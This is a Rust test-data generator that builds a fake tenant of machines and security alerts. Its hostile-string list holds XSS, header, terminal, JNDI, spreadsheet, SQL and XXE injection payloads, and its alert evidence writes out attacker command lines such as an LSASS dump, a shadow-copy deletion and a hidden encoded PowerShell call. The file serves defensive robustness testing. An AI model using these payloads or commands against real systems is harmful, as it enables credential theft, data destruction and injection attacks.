//! A made-up tenant of any size, the same one for the same seed: devices of every platform, alerts of every
//! severity with believable evidence, and on request text that attacks whoever prints it.
//!
//! Every record is well-formed as JSON and complete; malformed ones are planted by hand (`World::raw_alert`).

use fastrand::Rng;
use jiff::{SignedDuration, Timestamp};

use crate::entities::{Alert, Evidence, IpAddress, Machine, RelatedUser};
use crate::times::to_ticks;

/// What to make. `GenerateOptions::new` has the ordinary values.
#[derive(Debug, Clone)]
pub struct GenerateOptions {
    pub alerts: usize,
    pub devices: usize,
    /// The newest time that occurs.
    pub now: Timestamp,
    /// How far back the oldest creation lies.
    pub spread: SignedDuration,
    /// Titles, names, users and command lines that attack whoever prints them.
    pub hostile: bool,
    /// Every alert is High and New.
    pub all_new_high: bool,
}

impl GenerateOptions {
    /// 1,000 alerts of one day on 200 devices, harmless, of every severity and status.
    pub fn new(now: Timestamp) -> GenerateOptions {
        GenerateOptions {
            alerts: 1_000,
            devices: 200,
            now,
            spread: SignedDuration::from_hours(24),
            hostile: false,
            all_new_high: false,
        }
    }
}

/// What was made: `World::generated` takes it in.
#[derive(Debug, Clone, PartialEq)]
pub struct Generated {
    pub machines: Vec<Machine>,
    pub alerts: Vec<Alert>,
}

/// Makes machines and alerts.
pub fn tenant(seed: u64, options: &GenerateOptions) -> Generated {
    let mut rng = Rng::with_seed(seed);
    let machines: Vec<Machine> =
        (0..options.devices).map(|number| machine(&mut rng, number, options)).collect();
    let alerts = (0..options.alerts).map(|number| alert(&mut rng, number, &machines, options)).collect();
    Generated { machines, alerts }
}

/// Text that attacks whoever prints it: HTML, headers, terminals, templates, spreadsheets, Markdown, and length.
pub fn hostile_strings() -> Vec<String> {
    let mut strings: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    strings.push("A".repeat(20_000));
    strings.push("\u{202e}".repeat(500));
    strings
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "Invoice\r\nBcc: everyone@example.com\r\n\r\nhello",
    "harmless\u{202e}fdp.exe",
    "\u{1b}[2J\u{1b}[31mall clear\u{1b}[0m\u{1b}]0;owned\u{7}",
    "{{7*7}} ${jndi:ldap://example.com/x} <%= 7*7 %> #{7*7} {% raw %}",
    "=HYPERLINK(\"http://example.com\",\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[click](javascript:alert(1)) **bold** `code` <@U123> @everyone <!channel>",
    "'; DROP TABLE alerts; --",
    "null\u{0}byte and tab\t and bell\u{7}",
    "zero\u{200b}width\u{feff} and line\u{2028}separator",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301} \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "]]></x><!DOCTYPE y [<!ENTITY z SYSTEM \"file:///etc/passwd\">]>",
];

const PLATFORMS: &[Option<&str>] = &[
    Some("Windows10"),
    Some("Windows10"),
    Some("Windows11"),
    Some("Windows11"),
    Some("Windows11"),
    Some("Windows10WVD"),
    Some("Windows11WVD"),
    Some("WindowsServer2019"),
    Some("WindowsServer2022"),
    Some("Linux"),
    Some("macOS"),
    None,
];

const NAMES: &[&str] = &["desktop", "laptop", "ws", "büro", "東京", "москва", "kassa", "reception"];

const USERS: &[&str] =
    &["a.meyer", "j.smith", "søren", "o'neil", "李雷", "петров", "maria.garcía", "svc-backup"];

const SEVERITIES: &[&str] =
    &["High", "High", "Medium", "Medium", "Low", "Low", "Informational", "UnSpecified"];

const STATUSES: &[&str] = &["New", "New", "New", "InProgress", "Resolved"];

const SOURCES: &[&str] =
    &["WindowsDefenderAtp", "WindowsDefenderAtp", "WindowsDefenderAv", "CustomDetection"];

/// Title, category, techniques, program, its command line.
const STORIES: &[(&str, &str, &[&str], &str, &str)] = &[
    (
        "Suspicious PowerShell command line",
        "Execution",
        &["T1059.001"],
        "powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
    ),
    (
        "Possible ransomware activity",
        "Ransomware",
        &["T1486", "T1490"],
        "vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    (
        "Suspicious access to LSASS service",
        "CredentialAccess",
        &["T1003.001"],
        "rundll32.exe",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    ),
    (
        "Suspicious 'Meterpreter' behavior was detected",
        "SuspiciousActivity",
        &["T1055"],
        "update.exe",
        "C:\\Users\\Public\\update.exe",
    ),
    (
        "Suspicious scheduled task",
        "Persistence",
        &["T1053.005"],
        "schtasks.exe",
        "schtasks.exe /create /sc minute /tn Updater /tr C:\\ProgramData\\u.exe",
    ),
    (
        "Low-reputation arbitrary code executed by signed executable",
        "Execution",
        &["T1218.011"],
        "rundll32.exe",
        "rundll32.exe c:\\temp\\suspicious.dll,RepeatAfterMe",
    ),
    (
        "Anomalous account lookups",
        "Discovery",
        &["T1087.002"],
        "net.exe",
        "net.exe group \"Domain Admins\" /domain",
    ),
    (
        "Connection to a malicious address",
        "CommandAndControl",
        &["T1071.001"],
        "svchost.exe",
        "svchost.exe -k netsvcs",
    ),
    ("User account créé de façon suspecte", "Persistence", &["T1136"], "net.exe", "net.exe user test /add"),
    (
        "不審なファイルのダウンロード",
        "InitialAccess",
        &["T1105"],
        "curl.exe",
        "curl.exe -o a.exe https://files.example/a",
    ),
];

fn machine(rng: &mut Rng, number: usize, options: &GenerateOptions) -> Machine {
    let name = if options.hostile && rng.u8(..4) == 0 {
        hostile(rng)
    } else {
        format!("{}-{number:05}.contoso.com", pick(rng, NAMES).unwrap_or_default())
    };
    let last_seen = options.now - SignedDuration::from_mins(rng.i64(1..1_440));
    let platform = pick(rng, PLATFORMS).flatten();
    let address = format!("10.{}.{}.{}", rng.u8(..), rng.u8(..), rng.u8(1..255));
    let machine = Machine {
        os_platform: platform.map(str::to_owned),
        last_ip_address: Some(address.clone()),
        aad_device_id: Some(guid(rng)),
        risk_score: pick(rng, &["None", "Informational", "Low", "Medium", "High"]).map(str::to_owned),
        exposure_level: pick(rng, &["None", "Low", "Medium", "High"]).map(str::to_owned),
        ip_addresses: vec![IpAddress {
            ip_address: address,
            mac_address: hex(rng, 12).to_uppercase(),
            operational_status: "Up".to_owned(),
        }],
        ..Machine::new(hex(rng, 40), name, "", precise(rng, last_seen))
    };
    let is_server = platform.is_none_or(|platform| platform.contains("Server") || platform == "Linux");
    let machine = if is_server { machine.group(141, "Servers") } else { machine.group(140, "Workstations") };
    let machine = if rng.u8(..20) == 0 { machine.tag("cordon-exclude") } else { machine };
    // One in sixteen, without drawing: a seed stays the tenant that it was.
    let machine = if machine.id.ends_with('7') { machine.tag("vip") } else { machine };
    if options.hostile && rng.u8(..8) == 0 { machine.tag(hostile(rng)) } else { machine }
}

fn alert(rng: &mut Rng, number: usize, machines: &[Machine], options: &GenerateOptions) -> Alert {
    let spread = options.spread.as_secs().max(1);
    let ago = SignedDuration::from_secs(rng.i64(0..spread));
    let created = precise(rng, options.now - ago);
    let before = SignedDuration::from_secs(rng.i64(5..300));
    let first = precise(rng, created - before);
    let later = SignedDuration::from_secs(rng.i64(0..600));
    let updated = precise(rng, created + later).min(to_ticks(options.now));
    let (title, category, techniques, program, command_line) =
        pick(rng, STORIES).unwrap_or(("", "", &[], "", ""));
    let odd = options.hostile && rng.u8(..3) == 0;
    let title = if odd { hostile(rng) } else { title.to_owned() };
    let command_line = if odd { hostile(rng) } else { command_line.to_owned() };
    let user = if odd { hostile(rng) } else { pick(rng, USERS).unwrap_or_default().to_owned() };
    let status = if options.all_new_high { "New" } else { pick(rng, STATUSES).unwrap_or_default() };
    let severity = if options.all_new_high { "High" } else { pick(rng, SEVERITIES).unwrap_or_default() };
    let alert = Alert {
        incident_id: Some(rng.i64(1_000..2_000_000)),
        detection_source: pick(rng, SOURCES).map(str::to_owned),
        detector_id: Some(guid(rng)),
        first_event_time: Some(first),
        last_event_time: Some(created),
        resolved_time: (status == "Resolved").then_some(updated),
        classification: (status == "Resolved" && rng.bool()).then(|| "FalsePositive".to_owned()),
        mitre_techniques: techniques.iter().map(|technique| (*technique).to_owned()).collect(),
        related_user: Some(RelatedUser { user_name: user.clone(), domain_name: "CONTOSO".to_owned() }),
        evidence: evidence(rng, first, program, &command_line, &user),
        ..Alert::new(alert_id(rng, created, number), "", created)
    };
    let alert =
        alert.severity(severity).status(status).title(title).category(category).updated(updated.max(created));
    match rng.choice(machines) {
        Some(machine) => alert.on(machine),
        None => Alert { machine_id: None, ..alert },
    }
}

fn evidence(rng: &mut Rng, at: Timestamp, program: &str, command_line: &str, user: &str) -> Vec<Evidence> {
    let folder = "C:\\Windows\\System32";
    let mut evidence = vec![
        Evidence {
            user_sid: Some(format!(
                "S-1-5-21-{}-{}-{}-{}",
                rng.u32(..),
                rng.u32(..),
                rng.u32(..),
                rng.u16(..)
            )),
            aad_user_id: Some(guid(rng)),
            user_principal_name: Some(format!("{user}@contoso.com")),
            ..Evidence::user(at, "CONTOSO", user)
        },
        Evidence {
            sha1: Some(hex(rng, 40)),
            sha256: Some(hex(rng, 64)),
            process_id: Some(rng.i64(4..60_000)),
            parent_process_id: Some(rng.i64(4..60_000)),
            parent_process_creation_time: Some(at),
            parent_process_file_name: Some("explorer.exe".to_owned()),
            parent_process_file_path: Some("C:\\Windows".to_owned()),
            ..Evidence::process(at, folder, program, command_line)
        },
    ];
    for _ in 0..rng.usize(0..4) {
        evidence.push(match rng.u8(..4) {
            0 => Evidence {
                sha256: Some(hex(rng, 64)),
                ..Evidence::file(at, "C:\\Users\\Public", format!("{}.dll", hex(rng, 8)), hex(rng, 40))
            },
            1 => Evidence::ip(at, format!("198.51.100.{}", rng.u8(1..255))),
            2 => Evidence::url(at, format!("https://{}.example/gate", hex(rng, 10))),
            _ => Evidence::registry(
                at,
                "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                format!("C:\\ProgramData\\{}.exe", hex(rng, 6)),
            ),
        });
    }
    evidence
}

/// `da`, eighteen digits that look like ticks, and a signed number that no other alert of the run has.
fn alert_id(rng: &mut Rng, at: Timestamp, number: usize) -> String {
    let ticks = at.as_nanosecond() / 100 + 621_355_968_000_000_000;
    // Multiplying by an odd number maps different numbers to different numbers.
    let scrambled = u32::try_from(number).unwrap_or(u32::MAX).wrapping_mul(0x9e37_79b1).cast_signed();
    format!("da{:018}_{scrambled}", ticks + i128::from(rng.u16(..)))
}

/// The time with a fraction of zero to seven digits, as the service prints them.
fn precise(rng: &mut Rng, at: Timestamp) -> Timestamp {
    let whole_seconds = at.as_nanosecond().div_euclid(1_000_000_000) * 1_000_000_000;
    let step = pick(rng, &[1_000_000_000_i128, 10_000_000, 1_000, 100, 100, 100]).unwrap_or(100);
    let fraction = i128::from(rng.u32(0..1_000_000_000)) / step * step;
    Timestamp::from_nanosecond(whole_seconds - 1_000_000_000 + fraction).unwrap_or(at)
}

fn pick<T: Copy>(rng: &mut Rng, choices: &[T]) -> Option<T> {
    rng.choice(choices).copied()
}

fn hostile(rng: &mut Rng) -> String {
    // The very long ones are rare, as they are in life.
    match rng.u8(..40) {
        0 => "A".repeat(20_000),
        1 => "\u{202e}".repeat(500),
        _ => pick(rng, HOSTILE).unwrap_or_default().to_owned(),
    }
}

fn hex(rng: &mut Rng, digits: usize) -> String {
    (0..digits).map(|_| rng.digit(16)).collect()
}

fn guid(rng: &mut Rng) -> String {
    [8, 4, 4, 4, 12].map(|digits| hex(rng, digits)).join("-")
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    fn options() -> GenerateOptions {
        GenerateOptions::new("2026-03-01T12:00:00Z".parse().unwrap())
    }

    #[test]
    fn one_seed_always_gives_one_tenant() {
        let hostile = GenerateOptions { hostile: true, ..options() };
        assert_eq!(tenant(7, &hostile), tenant(7, &hostile));
        assert_ne!(tenant(7, &hostile), tenant(8, &hostile));
    }

    #[test]
    fn ids_have_the_documented_form_and_are_unique() {
        let made = tenant(1, &options());
        for alert in &made.alerts {
            let (digits, number) = alert.id.strip_prefix("da").unwrap().split_once('_').unwrap();
            assert_eq!(digits.len(), 18);
            assert!(digits.bytes().all(|digit| digit.is_ascii_digit()));
            number.parse::<i32>().unwrap();
        }
        let ids: BTreeSet<_> = made.alerts.iter().map(|alert| &alert.id).collect();
        assert_eq!(ids.len(), 1_000);
        let machines: BTreeSet<_> = made.machines.iter().map(|machine| &machine.id).collect();
        assert_eq!(machines.len(), 200);
        assert!(machines.iter().all(|id| id.len() == 40 && id.bytes().all(|byte| byte.is_ascii_hexdigit())));
    }

    #[test]
    fn every_platform_and_severity_occurs_and_no_time_lies_ahead() {
        let options = options();
        let made = tenant(1, &options);
        let platforms: BTreeSet<_> =
            made.machines.iter().map(|machine| machine.os_platform.as_deref()).collect();
        assert_eq!(platforms, PLATFORMS.iter().copied().collect());
        let severities: BTreeSet<_> = made.alerts.iter().map(|alert| alert.severity.as_str()).collect();
        assert_eq!(severities, SEVERITIES.iter().copied().collect());
        for alert in &made.alerts {
            assert!(alert.last_update_time.unwrap() <= options.now);
            assert!(alert.alert_creation_time <= alert.last_update_time);
            assert!(alert.first_event_time <= alert.last_event_time);
        }
    }

    #[test]
    fn a_storm_is_all_new_and_high() {
        let made = tenant(1, &GenerateOptions { all_new_high: true, ..options() });
        assert!(made.alerts.iter().all(|alert| alert.severity == "High" && alert.status == "New"));
    }
}
